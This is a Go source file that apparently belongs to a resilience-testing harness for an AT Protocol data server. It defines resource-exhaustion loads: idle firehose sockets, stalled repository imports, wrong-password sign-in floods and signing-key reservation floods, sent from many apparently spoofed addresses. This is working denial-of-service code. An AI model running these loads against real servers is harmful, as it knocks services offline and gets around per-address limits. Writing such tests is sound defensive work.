package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

const subscribe = "GET /xrpc/com.atproto.sync.subscribeRepos"

var upgrade = []string{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="}

// streams follows the firehose on many sockets, from few addresses, and reads nothing.
var streams = class{
	name: "streams", what: "opens firehose sockets from a few addresses, and reads nothing",
	clients: 500,
	asks: func(f *field, ctx context.Context) error {
		var d net.Dialer
		c, err := d.DialContext(ctx, "tcp", f.addr)
		if err != nil {
			return err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(20 * time.Second))
		request(c, subscribe, f.hostB, append([]string{from(0, 5)}, upgrade...)...) // from the attacker's own address
		head := make([]byte, len("HTTP/1.1 101"))
		if _, err := io.ReadFull(c, head); err != nil || string(head) != "HTTP/1.1 101" {
			return errors.Join(fmt.Errorf("subscribe: %q", head), err)
		}
		return nil
	},
	start: func(ctx context.Context, f *field, n int) (*load, error) {
		l := newLoad(ctx)
		l.hold(f, n, func(i int, c net.Conn) {
			if request(c, subscribe+"?cursor=0", f.hostA, append([]string{from(i, 5)}, upgrade...)...) {
				<-l.ctx.Done()
			}
		})
		return l, nil
	},
}

// imports begins imports of repositories whose archives never come.
var imports = class{
	name: "imports", what: "begins imports whose archives do not come, and begins again",
	clients: 20,
	prepare: func(f *field, ctx context.Context) (err error) {
		if f.mover.did == "" {
			f.mover, err = f.signUp(ctx, f.hostB, "mover-"+f.b.handle)
		}
		if err == nil {
			f.archive, err = f.fetch(ctx, "/xrpc/com.atproto.sync.getRepo?did="+f.mover.did)
		}
		return err
	},
	asks: func(f *field, ctx context.Context) error {
		return f.send(ctx, f.mover, "com.atproto.repo.importRepo", "application/vnd.ipld.car", bytes.NewReader(f.archive), nil)
	},
	start: func(ctx context.Context, f *field, n int) (*load, error) {
		l := newLoad(ctx)
		l.each(n, func(i int) {
			for l.ctx.Err() == nil {
				if c := l.dial(f); c != nil {
					if request(c, "POST /xrpc/com.atproto.repo.importRepo", f.hostA, from(i, 10), "Content-Type: application/vnd.ipld.car", "Content-Length: 1000000", f.a.bearer()) {
						drain(c)
					}
					l.drop(c)
				}
				wait(l.ctx, 100*time.Millisecond)
			}
		})
		return l, nil
	},
}

// signIns guesses passwords as fast as the server takes them: each guess costs it memory and time.
var signIns = class{
	name: "sign-ins", what: "signs in with wrong passwords, from many addresses to many names",
	clients: 100, grow: 500,
	asks: func(f *field, ctx context.Context) error {
		return f.call(ctx, account{host: f.hostB}, "POST", "com.atproto.server.createSession", map[string]any{"identifier": f.b.handle, "password": password}, nil)
	},
	start: func(ctx context.Context, f *field, n int) (*load, error) {
		l := newLoad(ctx)
		l.each(n, func(i int) {
			for k := 0; l.ctx.Err() == nil; k++ {
				l.post(f, i*1000+k, "com.atproto.server.createSession", fmt.Sprintf(`{"identifier":"nobody%d.test","password":"wrong"}`, i*1000+k))
			}
		})
		return l, nil
	},
}

// reservedKeys asks for signing keys that are kept for accounts to come.
var reservedKeys = class{
	name: "keys", what: "reserves signing keys, from many addresses",
	clients: 20, slower: 60,
	asks: func(f *field, ctx context.Context) error {
		return f.call(ctx, account{host: f.hostB}, "POST", "com.atproto.server.reserveSigningKey", map[string]any{}, nil)
	},
	start: func(ctx context.Context, f *field, n int) (*load, error) {
		l := newLoad(ctx)
		l.each(n, func(i int) {
			for k := 0; l.ctx.Err() == nil; k++ {
				l.post(f, i*1000+k, "com.atproto.server.reserveSigningKey", "{}")
			}
		})
		return l, nil
	},
}

// post sends one call from one of 250 addresses and reads its answer.
func (l *load) post(f *field, i int, method, body string) {
	c := l.dial(f)
	if c == nil {
		wait(l.ctx, 100*time.Millisecond)
		return
	}
	defer l.drop(c)
	if request(c, "POST /xrpc/"+method, f.hostA, from(i, 250), "Connection: close", "Content-Type: application/json", fmt.Sprintf("Content-Length: %d", len(body))) {
		_, _ = io.Copy(c, strings.NewReader(body))
		drain(c)
	}
}
